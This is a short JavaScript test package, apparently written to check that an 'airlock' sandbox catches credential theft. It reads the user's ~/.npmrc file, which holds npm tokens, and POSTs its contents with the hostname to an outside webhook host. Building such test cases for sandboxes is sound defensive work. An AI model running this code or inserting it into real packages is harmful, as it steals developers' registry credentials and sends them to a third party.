// Test package: the .npmrc token stealer move. Reads ~/.npmrc and POSTs it to a
// webhook host over HTTPS. Only ever run inside the airlock sandbox, whose network
// sink answers every address; the host never runs this script.
const fs = require('fs'), os = require('os'), https = require('https');
let data = '';
try { data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const body = JSON.stringify({ host: os.hostname(), npmrc: data });
const req = https.request({ host: 'webhook.site', path: '/3f1c0a7e-airlock-test', method: 'POST',
  headers: { 'content-type': 'application/json' } }, (r) => r.resume());
req.on('error', () => {});
req.end(body);
